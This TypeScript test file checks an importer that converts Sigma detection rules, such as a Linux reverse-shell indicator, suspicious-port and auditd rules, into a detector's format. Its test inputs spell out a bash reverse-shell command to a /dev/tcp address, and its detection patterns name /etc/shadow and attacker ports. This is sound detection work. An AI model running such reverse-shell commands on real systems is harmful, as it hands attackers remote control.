import type { VmiEvent } from '../introspect/events/event.js';
import { Detector } from './detector.js';
import { loadRuleFiles } from './load.js';
import { importSigma } from './sigma.js';

const REVERSE_SHELL = `
title: Linux Reverse Shell Indicator
id: 83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871
status: test
description: Detects a bash reverse shell command line.
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  product: linux
  category: process_creation
detection:
  selection_shell:
    Image|endswith:
      - '/bash'
      - '/sh'
  selection_redirect:
    CommandLine|contains|all:
      - '/dev/tcp/'
      - '>&'
  filter_main:
    ParentImage: '/usr/lib/*/helper'
  condition: all of selection_* and not 1 of filter_*
falsepositives:
  - Administrators testing
level: high
`;

const NETWORK = `
title: Outbound to a suspicious port
logsource: { product: linux, category: network_connection }
detection:
  selection:
    DestinationPort: [4444, 1337]
  filter:
    DestinationIp|cidr: ['10.0.0.0/8', '192.168.0.0/16']
  condition: selection and not filter
level: medium
`;

function exec(
  commandLine: string,
  executable = '/bin/bash',
  parent = '/usr/bin/python3',
): VmiEvent {
  return {
    type: 'process.exec',
    domain: 'g',
    time: 1,
    process: { pid: 7, executable, command_line: commandLine, parent: { executable: parent } },
  };
}

function fired(yaml: string, events: VmiEvent[]): string[] {
  const loaded = loadRuleFiles([{ file: 'imported.yaml', text: yaml }]);
  expect(loaded.errorCount).toBe(0);
  const detector = new Detector(loaded.ruleset);
  const ids: string[] = [];
  for (const event of events) detector.process(event, (finding) => ids.push(finding.rule.id));
  return ids;
}

describe('importSigma', () => {
  it('maps selections, modifiers and 1 of / all of into a rule that loads and fires', () => {
    const result = importSigma([{ file: 'rs.yml', text: REVERSE_SHELL }]);
    expect(result.diagnostics).toEqual([]);
    expect(result.imported).toEqual([
      { title: 'Linux Reverse Shell Indicator', id: 'sigma-83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871' },
    ]);
    expect(result.yaml).toContain('severity: high');
    expect(result.yaml).toContain('attack.t1059.004');
    const id = 'sigma-83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871';
    expect(fired(result.yaml, [exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')])).toEqual([id]);
    expect(fired(result.yaml, [exec('bash -i >& /DEV/TCP/203.0.113.7/4444 0>&1')])).toEqual([id]);
    expect(fired(result.yaml, [exec('bash /dev/tcp/x')])).toEqual([]);
    expect(fired(result.yaml, [exec('bash -i >& /dev/tcp/x 0>&1', '/usr/bin/zsh')])).toEqual([]);
    expect(
      fired(result.yaml, [exec('bash -i >& /dev/tcp/x', '/bin/sh', '/usr/lib/x/helper')]),
    ).toEqual([]);
  });

  it('maps network connections, lists of values and cidr', () => {
    const result = importSigma([{ file: 'net.yml', text: NETWORK }]);
    expect(result.diagnostics).toEqual([]);
    const connect = (ip: string, port: number): VmiEvent => ({
      type: 'network.connect',
      domain: 'g',
      time: 1,
      network: { destination_ip: ip, destination_port: port },
    });
    expect(
      fired(result.yaml, [
        connect('203.0.113.9', 4444),
        connect('10.1.1.1', 4444),
        connect('203.0.113.9', 443),
      ]),
    ).toEqual(['sigma-outbound-to-a-suspicious-port']);
  });

  it('reports what does not map, rule by rule, and keeps the rest', () => {
    const text = [
      REVERSE_SHELL,
      'title: Windows thing\nlogsource: { product: windows, category: process_creation }\ndetection: { sel: { Image: x }, condition: sel }',
      'title: Keywords\nlogsource: { product: linux, category: process_creation }\ndetection: { keywords: [evil, bad], condition: keywords }',
      'title: Base64\nlogsource: { product: linux, category: process_creation }\ndetection: { sel: { CommandLine|base64: x }, condition: sel }',
      'title: Unknown field\nlogsource: { product: linux, category: process_creation }\ndetection: { sel: { LogonId: 7 }, condition: sel }',
      'title: Count\nlogsource: { product: linux, category: process_creation }\ndetection: { sel: { Image: x }, condition: sel | count() > 5 }',
    ].join('\n---\n');
    const result = importSigma([{ file: 'mixed.yml', text }]);
    expect(result.imported).toHaveLength(1);
    expect(
      result.diagnostics.map(
        (d) => `${d.at.line} ${d.code} ${d.message.replace(/\(mapped.*$/, '')}`,
      ),
    ).toEqual([
      '29 SIGMA_UNMAPPED Windows thing: log source {"product":"windows","category":"process_creation"} has no Ringside event ',
      "33 SIGMA_UNMAPPED Keywords: 'keywords' is a keyword list (full-text search), which Ringside events do not have",
      "37 SIGMA_UNMAPPED Base64: modifier 'base64' (on CommandLine) is not supported",
      "41 SIGMA_UNMAPPED Unknown field: field 'LogonId' has no Ringside equivalent for process.exec",
      "45 SIGMA_UNMAPPED Count: aggregations ('|' in the condition) are not supported; use a Ringside threshold",
    ]);
  });

  it('keeps Sigma wildcards as globs and escaped ones as literal characters', () => {
    const result = importSigma([
      {
        file: 'w.yml',
        text: 'title: W\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    CommandLine: "run \\\\* now*"\n  condition: sel\n',
      },
    ]);
    expect(result.diagnostics).toEqual([]);
    expect(fired(result.yaml, [exec('run * now please')])).toEqual(['sigma-w']);
    expect(fired(result.yaml, [exec('run x now please')])).toEqual([]);
  });

  it('imports fields no detector fills yet, and lint says the rule cannot fire', () => {
    const result = importSigma([
      {
        file: 'u.yml',
        text: 'title: Root shell\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    User: root\n    ParentCommandLine|contains: nginx\n  condition: sel\n',
      },
    ]);
    expect(result.diagnostics).toEqual([]);
    const loaded = loadRuleFiles([{ file: 'u.yaml', text: result.yaml }]);
    expect(loaded.errorCount).toBe(0);
    expect(
      loaded.diagnostics.filter((d) => d.code === 'UNFILLED_FIELD').map((d) => d.message),
    ).toEqual([
      "no detector fills 'user.name' yet: a condition on it cannot hold",
      "no detector fills 'process.parent.command_line' yet: a condition on it cannot hold",
    ]);
  });
  it('maps auditd EXECVE and SYSCALL records to the events Ringside has, selection by selection', () => {
    const commands = `
title: Suspicious Commands
logsource: { product: linux, service: auditd }
detection:
  cmd1: { type: EXECVE, a0: chmod, a1: 777 }
  cmd2: { type: EXECVE, a0: cp, a1: /bin/sh }
  narrow: { a2|endswith: /tmp }
  condition: (cmd1 or cmd2) and not narrow
`;
    const webRce = `
title: Web RCE
logsource: { product: linux, service: auditd }
detection:
  selection: { type: SYSCALL, SYSCALL: [execve, execveat], euid: 33 }
  condition: selection
`;
    const mixed = `
title: Exec or module
logsource: { product: linux, service: auditd }
detection:
  exec: { type: EXECVE, a0: insmod }
  load: { type: SYSCALL, SYSCALL: finit_module, comm: modprobe }
  condition: exec or load
`;
    const result = importSigma([
      { file: 'a.yml', text: [commands, webRce, mixed].join('\n---\n') },
    ]);
    expect(result.diagnostics).toEqual([]);
    const run = (args: string[], extra: Partial<VmiEvent> = {}): VmiEvent =>
      ({
        type: 'process.exec',
        domain: 'g',
        time: 1,
        process: { pid: 7, name: args[0], args, command_line: args.join(' ') },
        user: { id: 33, effective_id: 1000 },
        ...extra,
      }) as VmiEvent;
    expect(fired(result.yaml, [run(['chmod', '777', 'x'])])).toEqual(['sigma-suspicious-commands']);
    expect(fired(result.yaml, [run(['chmod', '777', '/var/tmp'])])).toEqual([]);
    expect(fired(result.yaml, [run(['chmod', '755', 'x'])])).toEqual([]);
    expect(fired(result.yaml, [run(['cp', '/bin/sh', '/x'])])).toEqual([
      'sigma-suspicious-commands',
    ]);
    expect(
      fired(result.yaml, [
        run(['id'], { user: { id: 1000, effective_id: 33 } } as Partial<VmiEvent>),
      ]),
    ).toEqual(['sigma-web-rce']);
    expect(result.yaml).toContain(
      'condition: type in (process.exec, module.load) and (type = process.exec and process.args[0] = "insmod" or type = module.load and process.name = "modprobe")',
    );
    const load: VmiEvent = {
      type: 'module.load',
      domain: 'g',
      time: 1,
      process: { pid: 9, name: 'modprobe' },
      module: { name: 'evil' },
    } as VmiEvent;
    expect(fired(result.yaml, [load, run(['insmod', 'x.ko'])])).toEqual([
      'sigma-exec-or-module',
      'sigma-exec-or-module',
    ]);
  });

  it('reports auditd records Ringside has no event for, with the reason', () => {
    const rule = (detection: string): string =>
      `title: T\nlogsource: { product: linux, service: auditd }\ndetection:\n${detection}\n  condition: sel\n`;
    const messages = [
      rule('  sel: { type: PATH, name: /etc/shadow }'),
      rule('  sel: { type: SYSCALL, SYSCALL: memfd_create }'),
      rule('  sel: { type: SYSCALL, comm: insmod }'),
      rule('  sel: { a1: -root }'),
    ].map((text) => importSigma([{ file: 'a.yml', text }]).diagnostics.map((d) => d.message)[0]);
    expect(messages).toEqual([
      'T: auditd PATH records (files opened) need file events, which Ringside does not observe',
      expect.stringMatching(/^T: auditd SYSCALL record of memfd_create: Ringside observes execve/),
      expect.stringMatching(/^T: auditd SYSCALL record of any system call: Ringside observes/),
      "T: auditd selection 'sel' names no record type, and the rule's others name none or several",
    ]);
  });
});
